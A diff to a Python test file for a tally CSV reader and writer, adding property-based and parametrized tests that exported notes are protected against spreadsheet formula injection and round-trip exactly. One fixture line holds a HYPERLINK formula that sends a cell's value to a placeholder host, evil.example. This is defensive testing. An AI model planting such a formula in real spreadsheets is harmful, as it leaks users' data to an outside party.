@@ -1,5 +1,7 @@
 """Reading and writing the tally CSV: strict, whole-file validation with line numbers."""
 
+import csv
+import io
 from datetime import date
 
 import pandas
@@ -214,6 +216,90 @@ def test_write_then_read_gives_the_same_entries_and_days(rows, extra_days):
     pandas.testing.assert_frame_equal(back.days, days)
 
 
+# --- CSV injection: text cells that a spreadsheet would take for a formula -----------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+# Texts that start like a formula or with a quote are the interesting ones: draw them often.
+TEXTS = st.one_of(
+    st.text(st.characters(codec="utf-8").filter(lambda c: not tally.CONTROL_CHARACTERS.match(c)), max_size=12),
+    st.tuples(
+        st.text(st.sampled_from(["'", *tally.FORMULA_STARTS]), min_size=1, max_size=3),
+        st.text(st.sampled_from(list("a1'=-+@ \t\r\n\"")), max_size=6),
+    ).map("".join),
+)
+
+
+def sitting_down(note: str) -> dict:
+    return {
+        **dict(date=date(2026, 11, 20), activity="sit_down_chair", quantity=1.0, technique="uncontrolled"),
+        **dict(load_kg=0.0, twist=False, first_hour=False, note=note, line=2),
+    }
+
+
+def cells(csv_text: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(csv_text, newline="")))
+
+
+def as_read(text: str) -> str:
+    """A text as the command line reads it from a file: line ends as a text editor sees them."""
+    return text.replace("\r\n", "\n").replace("\r", "\n")
+
+
+def test_export_neutralises_a_formula_in_a_note_and_import_gives_the_note_back_as_typed():
+    frame = frame_of([sitting_down(FORMULA)])
+    days = pandas.DataFrame({"date": [date(2026, 11, 20)], "pain": pandas.array([2], dtype="Int64"), "note": ["-3 km"]})
+    days = days.astype({"date": "object", "note": "object"})
+    written = tally.write_csv(frame, days)
+    [_, row] = cells(written)
+    assert row[7] == "'" + FORMULA and row[9] == "'-3 km"  # a spreadsheet shows them as text
+    assert row[2] == "1" and row[8] == "2"  # numbers stay numbers
+    back = tally.read(written, CAT)
+    assert back.entries["note"].tolist() == [FORMULA] and back.days["note"].tolist() == ["-3 km"]
+
+
+@pytest.mark.parametrize(
+    ("typed", "written"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+44 20", "'+44 20"),
+        ("@home", "'@home"),
+        ("\tindented", "'\tindented"),
+        ("'=1+1", "''=1+1"),  # a note that really starts with a quote and =: the quote is doubled
+        ("''", "'''"),
+        ("'\nx", "''\nx"),
+        ("\nx", "\nx"),
+        ("'tis the season", "'tis the season"),  # a quote before anything else is left alone
+        ("'", "'"),
+        ("a=b", "a=b"),
+        ("", ""),
+    ],
+)
+def test_the_quote_rule_is_unambiguous(typed, written):
+    assert tally.spreadsheet_safe(typed) == written
+    assert tally.from_spreadsheet(written) == typed
+
+
+def test_a_hand_written_note_starting_with_a_quote_and_a_formula_character_loses_that_quote():
+    found = tally.read(f"{HEADER}\n2026-11-20,sit_down_chair,1,,,,,'-5 degrees\n2026-11-20,weeding,5,,,,,'tis\n", CAT)
+    assert found.entries["note"].tolist() == ["-5 degrees", "'tis"]
+
+
+@settings(max_examples=150)
+@given(st.lists(TEXTS, min_size=1, max_size=6), TEXTS)
+def test_every_text_round_trips_and_no_exported_text_cell_starts_like_a_formula(notes, day_note):
+    rows = [sitting_down(note) for note in notes]
+    days = pandas.DataFrame({"date": [date(2026, 11, 20)], "pain": pandas.array([None], dtype="Int64")})
+    days = days.assign(note=[day_note]).astype({"date": "object", "note": "object"})
+    written = tally.write_csv(frame_of(rows), days)
+    for row in cells(written)[1:]:
+        assert not row[7].startswith(tally.FORMULA_STARTS) and not row[9].startswith(tally.FORMULA_STARTS)
+    back = tally.read(written, CAT)  # the text itself, carriage returns kept
+    assert back.entries["note"].tolist() == notes and back.days["note"].tolist() == [day_note]
+    from_file = tally.read(as_read(written), CAT)  # as the command line reads it
+    assert from_file.entries["note"].tolist() == [as_read(note) for note in notes]
+    assert from_file.days["note"].tolist() == [as_read(day_note)]
+
+
 # --- The fast reader (pandas) and the exact one (csv module) give the same verdict ---------------
 
 # Values a field may hold: the good ones first (drawn more often), then the bad and the odd ones.
@@ -224,7 +310,7 @@ NUMBERS[1].extend(["nan", "inf", "\uff11", "0x10", "", "lots"])
 TECHNIQUES = (["", "controlled", " Controlled ", "uncontrolled"], ["sloppy"])
 LOADS = (["", "0", "12.5", " 3 "], ["-3", "201", "nan"])
 FLAGS = (["", "yes", "no", " YES "], ["maybe"])
-NOTE_CHARACTERS = st.sampled_from(list('ab \u00e9,,""\t\x00\x1b\x7f\x85\u2028\ufeff'))
+NOTE_CHARACTERS = st.sampled_from(list("ab \u00e9,,\"\"\t\x00\x1b\x7f\x85\u2028\ufeff''=-"))
 NOTES = st.one_of(
     st.text(NOTE_CHARACTERS, max_size=8),
     st.sampled_from(['"abc"def', 'a"b', "x" * 501, "  ", "two\nlines", "cr\ronly", "crlf\r\n"]),
